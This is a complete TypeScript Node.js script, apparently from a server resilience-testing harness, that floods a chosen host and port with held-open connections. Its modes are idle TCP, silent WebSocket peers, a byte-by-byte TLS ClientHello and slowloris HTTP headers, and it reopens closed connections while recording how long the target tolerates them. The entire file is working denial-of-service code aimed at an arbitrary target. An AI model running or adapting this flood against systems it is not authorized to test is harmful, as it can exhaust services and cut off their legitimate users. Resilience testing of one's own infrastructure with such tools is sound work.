// A connection flood against a listening port, by someone who needs no key at all. Keeps
// up to `--count` connections open at once (opening a new one whenever the target closes
// one, at most `--total` over the run) and measures how long the target let each live.
//
//   --mode tcp        plain TCP, not one byte sent (idle sockets)
//   --mode ws         a completed WebSocket upgrade, then silence (an unauthenticated peer)
//   --mode tls-slow   TCP, then a genuine TLS ClientHello trickled one byte every
//                     `--trickle-ms` (a handshake that never finishes)
//   --mode http-slow  slowloris: an HTTP request whose headers arrive a byte at a time
//
//   node connection-flood.js --host H --port P --mode tcp [--count 500] [--total 2000]
//        [--duration-ms 6000] [--trickle-ms 100] [--path /] [--reopen-delay-ms 0]
import { once } from 'node:events';
import { connect as connectTcp, createServer, type Socket } from 'node:net';
import { connect as connectTls } from 'node:tls';
import { WebSocket } from 'ws';
import { AttackFlags, hardDeadline, report, sleep, summarise } from './attack-io.js';

type Mode = 'tcp' | 'ws' | 'tls-slow' | 'http-slow';
const MODES: readonly Mode[] = ['tcp', 'ws', 'tls-slow', 'http-slow'];

const flags = new AttackFlags();
const host = flags.text('host');
const port = flags.count('port', 65_535);
const mode = flags.text('mode') as Mode;
if (!MODES.includes(mode)) {
  process.stderr.write(`--mode must be one of ${MODES.join(', ')}\n`);
  process.exit(2);
}
const count = flags.count('count', 2_000, 500);
const total = flags.count('total', 10_000, 2_000);
const durationMs = flags.count('duration-ms', 60_000, 6_000);
const trickleMs = flags.count('trickle-ms', 10_000, 100);
const path = flags.text('path', '/');
/** Wait before replacing a connection the target refused (closed sooner than this). */
const reopenDelayMs = Number(flags.text('reopen-delay-ms', '0'));
hardDeadline(durationMs + 15_000);

const totals = { opened: 0, failedToOpen: 0, closedByTarget: 0 };
/** Open → closed by the target, per connection that the target closed. */
const lifetimesMs: number[] = [];
const live = new Set<{ end(): void; openedAt(): number | null }>();
let stopping = false;

/** The first flight of a real TLS client (its ClientHello), captured on a local socket. */
async function captureClientHello(): Promise<Buffer> {
  const server = createServer();
  server.listen(0, '127.0.0.1');
  await once(server, 'listening');
  const address = server.address();
  if (address === null || typeof address === 'string') throw new Error('no local port');
  const accepted = once(server, 'connection') as Promise<[Socket]>;
  const client = connectTls({ host: '127.0.0.1', port: address.port, rejectUnauthorized: false });
  client.on('error', () => undefined);
  const [socket] = await accepted;
  const [hello] = (await once(socket, 'data')) as [Buffer];
  client.destroy();
  socket.destroy();
  server.close();
  return hello;
}

function trickle(socket: Socket, bytes: Buffer): void {
  let offset = 0;
  const timer = setInterval(() => {
    if (offset >= bytes.length || socket.destroyed) {
      clearInterval(timer);
      return;
    }
    socket.write(bytes.subarray(offset, offset + 1));
    offset += 1;
  }, trickleMs);
  socket.once('close', () => {
    clearInterval(timer);
  });
}

function track(
  openedAt: () => number | null,
  end: () => void,
  onClosed: (f: () => void) => void,
): void {
  const entry = { end, openedAt };
  live.add(entry);
  onClosed(() => {
    live.delete(entry);
    const at = openedAt();
    if (stopping) return;
    const livedMs = at === null ? 0 : performance.now() - at;
    if (at === null) {
      totals.failedToOpen += 1;
    } else {
      totals.closedByTarget += 1;
      lifetimesMs.push(livedMs);
    }
    // A connection the target held is replaced at once (its slot is free only now); one
    // it refused straight away waits, so a full target costs a steady trickle, not a spin.
    if (livedMs < reopenDelayMs) setTimeout(refill, reopenDelayMs);
    else refill();
  });
}

function openOne(clientHello: Buffer | null): void {
  totals.opened += 1;
  if (mode === 'ws') {
    const ws = new WebSocket(`ws://${host}:${port}${path}`, {
      perMessageDeflate: false,
      handshakeTimeout: 5_000,
    });
    let openedAt: number | null = null;
    ws.on('open', () => (openedAt = performance.now()));
    ws.on('error', () => undefined);
    track(
      () => openedAt,
      () => {
        ws.terminate();
      },
      (f) => ws.once('close', f),
    );
    return;
  }
  const socket = connectTcp({ host, port });
  let openedAt: number | null = null;
  socket.on('error', () => undefined);
  socket.on('data', () => undefined);
  socket.once('connect', () => {
    openedAt = performance.now();
    if (mode === 'tls-slow' && clientHello !== null) trickle(socket, clientHello);
    if (mode === 'http-slow') {
      trickle(
        socket,
        Buffer.from(`GET ${path} HTTP/1.1\r\nHost: ${host}\r\n${'X-Slow: a\r\n'.repeat(500)}`),
      );
    }
  });
  track(
    () => openedAt,
    () => socket.destroy(),
    (f) => socket.once('close', f),
  );
}

let hello: Buffer | null = null;
function refill(): void {
  while (!stopping && live.size < count && totals.opened < total) openOne(hello);
}

if (mode === 'tls-slow') hello = await captureClientHello();
report({ t: 'ready', mode, helloBytes: hello?.length ?? 0 });
refill();
await sleep(durationMs);
stopping = true;
// Connections still open at the end, by age: an old one is one the target never closed.
const now = performance.now();
const stillOpenAgesMs = [...live].flatMap((entry) => {
  const at = entry.openedAt();
  return at === null ? [] : [now - at];
});
for (const entry of live) entry.end();
report({
  t: 'result',
  mode,
  ...totals,
  lifetime: summarise(lifetimesMs),
  stillOpen: summarise(stillOpenAgesMs),
});
process.exit(0);
